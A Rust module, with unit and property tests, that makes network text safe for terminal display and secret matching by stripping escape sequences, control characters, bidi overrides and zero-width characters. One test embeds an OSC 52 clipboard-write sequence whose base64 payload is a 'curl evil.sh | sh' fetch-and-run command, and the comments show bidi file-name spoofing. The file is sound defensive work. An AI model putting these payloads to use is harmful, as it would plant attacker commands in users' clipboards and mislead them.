//! Text from the network made safe to show, and plain enough to search for secrets.
//!
//! A build line, a project name or an event type can carry terminal escape sequences (`ESC]52`
//! writes the user's clipboard, `ESC[2J` clears the screen), control characters, and Unicode
//! bidirectional overrides (`invoice for \u{202e}exe.txt` reads as `invoice for txt.exe`).
//! Everything here splits a text into [`Piece`]s once, and each view decides what to keep.

use std::borrow::Cow;

/// One piece of a text, as a terminal would see it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Piece<'a> {
    Text(&'a str),
    /// A whole escape sequence (`raw`); `color` for SGR (`ESC[...m`), which only sets colors
    /// and attributes; `payload` is the text an OSC/DCS/APC/PM/SOS string carries.
    Escape {
        raw: &'a str,
        color: bool,
        payload: &'a str,
    },
    /// A C0 or C1 control character, or DEL. `\n` and `\t` are text.
    Control,
    /// A bidirectional formatting character (U+200E/F, U+202A-U+202E, U+2066-U+2069).
    Bidi,
    /// A zero-width character (U+200B-U+200D, U+2060, U+FEFF): harmless on screen, but it can
    /// split a secret so that no pattern sees it.
    ZeroWidth(&'a str),
}

fn is_bidi(c: char) -> bool {
    matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

fn is_zero_width(c: char) -> bool {
    matches!(c, '\u{200b}'..='\u{200d}' | '\u{2060}' | '\u{feff}')
}

fn is_control(c: char) -> bool {
    c != '\n' && c != '\t' && c.is_control()
}

/// True when `text` has nothing but plain text: the common case, checked byte by byte.
fn is_plain(text: &str) -> bool {
    let bytes = text.as_bytes();
    // Most lines are printable ASCII: checked 32 bytes at a time, without a branch per byte.
    let printable_ascii = |chunk: &[u8]| {
        chunk.iter().fold(true, |all, &b| {
            all & (b.wrapping_sub(0x20) < 0x5f || b == b'\n' || b == b'\t')
        })
    };
    // Past the chunks of plain ASCII (no character straddles their end), byte by byte.
    let Some(chunk) = bytes.chunks(32).position(|chunk| !printable_ascii(chunk)) else {
        return true;
    };
    let rest = &bytes[chunk * 32..];
    rest.iter().enumerate().all(|(at, &b)| match b {
        b'\n' | b'\t' => true,
        0..=0x1f | 0x7f => false,
        // C1 controls are U+0080-U+009F: 0xC2 0x80-0x9F.
        0xc2 => !matches!(rest.get(at + 1), Some(0x80..=0x9f)),
        // U+200B-U+200F, U+202A-U+202E, U+2060-U+2069: 0xE2 0x80/0x81 ...
        0xe2 => !matches!(
            (rest.get(at + 1), rest.get(at + 2)),
            (Some(0x80), Some(0x8b..=0x8f | 0xaa..=0xae)) | (Some(0x81), Some(0xa0..=0xa9))
        ),
        // U+FEFF: 0xEF 0xBB 0xBF.
        0xef => !matches!(
            (rest.get(at + 1), rest.get(at + 2)),
            (Some(0xbb), Some(0xbf))
        ),
        _ => true,
    })
}

/// Splits `text` into pieces; plain runs come out whole.
fn pieces(text: &str) -> impl Iterator<Item = Piece<'_>> {
    let mut rest = text;
    std::iter::from_fn(move || {
        let mut chars = rest.char_indices();
        let (_, first) = chars.next()?;
        let (piece, len) = match first {
            '\u{1b}' => escape(rest),
            c if is_control(c) => (Piece::Control, c.len_utf8()),
            c if is_bidi(c) => (Piece::Bidi, c.len_utf8()),
            c if is_zero_width(c) => (Piece::ZeroWidth(&rest[..c.len_utf8()]), c.len_utf8()),
            _ => {
                let end = chars
                    .find(|&(_, c)| {
                        c == '\u{1b}' || is_control(c) || is_bidi(c) || is_zero_width(c)
                    })
                    .map_or(rest.len(), |(at, _)| at);
                (Piece::Text(&rest[..end]), end)
            }
        };
        rest = &rest[len..];
        Some(piece)
    })
}

/// The escape sequence at the start of `text` (which starts with ESC) and its length in bytes,
/// read as ECMA-48 says; an unfinished one runs to the end of the text, as a terminal would
/// wait for the rest.
fn escape(text: &str) -> (Piece<'_>, usize) {
    let body = &text[1..];
    let Some(kind) = body.chars().next() else {
        return (Piece::Control, 1);
    };
    match kind {
        // CSI: parameters 0x30-0x3F, intermediates 0x20-0x2F, one final byte 0x40-0x7E.
        '[' => {
            let params = &body[1..];
            let end = params
                .find(|c: char| !('\u{20}'..='\u{3f}').contains(&c))
                .unwrap_or(params.len());
            let fin = params[end..].chars().next();
            let len = 2 + end + fin.map_or(0, char::len_utf8);
            let color = fin == Some('m')
                && params[..end]
                    .bytes()
                    .all(|b| b.is_ascii_digit() || b == b';' || b == b':');
            let raw = &text[..len];
            (
                Piece::Escape {
                    raw,
                    color,
                    payload: "",
                },
                len,
            )
        }
        // Strings (OSC, DCS, SOS, PM, APC), ended by BEL or ST (ESC \).
        ']' | 'P' | 'X' | '^' | '_' => {
            let payload = &body[1..];
            let (end, terminator) = match payload.find(['\u{7}', '\u{1b}', '\u{9c}']) {
                Some(at) if payload[at..].starts_with("\u{1b}\\") => (at, 2),
                Some(at) if payload[at..].starts_with('\u{1b}') => (at, 0),
                Some(at) => (at, payload[at..].chars().next().map_or(0, char::len_utf8)),
                None => (payload.len(), 0),
            };
            let len = 2 + end + terminator;
            let piece = Piece::Escape {
                raw: &text[..len],
                color: false,
                payload: &payload[..end],
            };
            (piece, len)
        }
        // Other escapes: intermediates, then one final character.
        _ => {
            let end = body
                .find(|c: char| !('\u{20}'..='\u{2f}').contains(&c))
                .unwrap_or(body.len());
            let len = 1 + end + body[end..].chars().next().map_or(0, char::len_utf8);
            let raw = &text[..len];
            (
                Piece::Escape {
                    raw,
                    color: false,
                    payload: "",
                },
                len,
            )
        }
    }
}

/// Builds a new text from the pieces `keep` maps to text, or borrows `text` when it is plain.
fn rebuild<'a>(text: &'a str, keep: impl Fn(Piece<'a>) -> Option<&'a str>) -> Cow<'a, str> {
    if is_plain(text) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len());
    for piece in pieces(text) {
        if let Some(kept) = keep(piece) {
            out.push_str(kept);
        }
    }
    Cow::Owned(out)
}

/// `text` as it may reach a terminal: no escape sequence (but colors when `keep_color`), no
/// control character but `\n` and `\t`, and each bidirectional override shown as `�`.
pub fn display(text: &str, keep_color: bool) -> Cow<'_, str> {
    rebuild(text, |piece| match piece {
        Piece::Text(text) => Some(text),
        Piece::Escape {
            raw, color: true, ..
        } if keep_color => Some(raw),
        Piece::Escape { .. } | Piece::Control => None,
        Piece::Bidi => Some("\u{fffd}"),
        Piece::ZeroWidth(joiner) => Some(joiner),
    })
}

/// A name, an id or a type for one line of a screen: [`display`] without colors, with line
/// breaks and tabs as spaces.
pub fn one_line(text: &str) -> Cow<'_, str> {
    match display(text, false) {
        Cow::Borrowed(plain) if !plain.contains(['\n', '\t']) => Cow::Borrowed(plain),
        shown => Cow::Owned(shown.replace(['\n', '\t'], " ")),
    }
}

/// `text` as a reader sees it, for finding secrets: escape sequences, control characters,
/// bidirectional and zero-width characters removed, but the text an OSC string carries kept
/// (a terminal hides it; a JSON consumer does not).
pub fn for_matching(text: &str) -> Cow<'_, str> {
    rebuild(text, |piece| match piece {
        Piece::Text(text) => Some(text),
        Piece::Escape { payload, .. } => Some(payload),
        Piece::Control | Piece::Bidi | Piece::ZeroWidth(_) => None,
    })
}

/// `text` with each piece put before the character at its position (taken modulo the number
/// of characters plus one): for tests that hide things inside a text.
#[cfg(test)]
pub(crate) fn with_inserted(text: &str, pieces: &[(usize, &str)]) -> String {
    let bounds: Vec<usize> = text
        .char_indices()
        .map(|(i, _)| i)
        .chain([text.len()])
        .collect();
    let mut inserts: Vec<(usize, &str)> = pieces
        .iter()
        .map(|&(at, piece)| (bounds[at % bounds.len()], piece))
        .collect();
    // From the end, so that each offset still points into the original text.
    inserts.sort_by_key(|insert| std::cmp::Reverse(insert.0));
    let mut out = text.to_owned();
    for (at, piece) in inserts {
        out.insert_str(at, piece);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn escapes_are_made_harmless() {
        let raw = "\u{1b}[31mred\u{1b}[39m \u{1b}[2J\u{1b}]0;pwned\u{7}ok\u{8}\r";
        assert_eq!(display(raw, false), "red ok");
        assert_eq!(display(raw, true), "\u{1b}[31mred\u{1b}[39m ok");
        assert_eq!(for_matching(raw), "red 0;pwnedok");
    }

    #[test]
    fn clipboard_writes_c1_controls_and_bidi_overrides_never_pass() {
        let clipboard = "stdout\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{1b}\\";
        assert_eq!(display(clipboard, true), "stdout");
        assert_eq!(display("a\u{9b}31mb\u{85}c", false), "a31mbc");
        assert_eq!(
            one_line("invoice for \u{202e}exe.txt"),
            "invoice for \u{fffd}exe.txt"
        );
        assert_eq!(one_line("two\nlines\tand tab"), "two lines and tab");
        // An unfinished sequence hides the rest, as a terminal would.
        assert_eq!(display("ok\u{1b}]0;title", false), "ok");
        assert_eq!(display("ok\u{1b}[", false), "ok");
        assert_eq!(display("ok\u{1b}", false), "ok");
    }

    #[test]
    fn plain_text_is_borrowed() {
        assert_eq!(display("emoji 👩‍💻", false), "emoji 👩‍💻");
        for text in ["", "plain ✓ ▲ Next.js 15 – iad1", "tab\tand\nline"] {
            assert!(matches!(display(text, true), Cow::Borrowed(_)), "{text:?}");
            assert!(matches!(one_line("x"), Cow::Borrowed(_)));
        }
        assert!(matches!(for_matching("a b"), Cow::Borrowed(_)));
    }

    fn noise() -> impl Strategy<Value = String> {
        prop_oneof![
            Just("\u{1b}[33m".to_owned()),
            Just("\u{1b}[1;4m".to_owned()),
            Just("\u{1b}[0m".to_owned()),
            Just("\u{1b}[2K".to_owned()),
            Just("\u{7}".to_owned()),
            Just("\u{0}".to_owned()),
            Just("\r".to_owned()),
            Just("\u{7f}".to_owned()),
            Just("\u{85}".to_owned()),
            Just("\u{202e}".to_owned()),
            Just("\u{200b}".to_owned()),
            Just("\u{feff}".to_owned()),
        ]
    }

    proptest! {
        /// Escapes, colors and control characters put anywhere in a plain text leave the same
        /// text for matching, and nothing that drives a terminal on display.
        #[test]
        fn noise_anywhere_leaves_the_text(
            text in "[a-zA-Z0-9 =:/._\\-é✓]{0,40}",
            noise in prop::collection::vec((0usize..41, noise()), 0..6),
        ) {
            let noise: Vec<(usize, &str)> =
                noise.iter().map(|(at, piece)| (*at, piece.as_str())).collect();
            let noisy = with_inserted(&text, &noise);
            prop_assert_eq!(for_matching(&noisy), text.as_str());
            let shown = display(&noisy, false);
            prop_assert!(!shown.contains(|c: char| is_control(c) || is_bidi(c)), "{:?}", shown);
        }

        /// Whatever arrives, what is shown has no escape or control but colors, `\n` and `\t`.
        #[test]
        fn display_never_lets_a_control_through(text in any::<String>(), color in any::<bool>()) {
            let shown = display(&text, color);
            let without_colors: String = pieces(&shown)
                .filter_map(|piece| match piece {
                    Piece::Text(text) => Some(text),
                    Piece::Escape { color: true, .. } if color => Some(""),
                    _ => None,
                })
                .collect();
            prop_assert_eq!(display(&without_colors, false), without_colors.as_str());
            prop_assert!(!without_colors.contains(|c: char| is_control(c) || is_bidi(c)));
            prop_assert!(!one_line(&text).contains(|c: char| c.is_control() || is_bidi(c)));
        }
    }
}
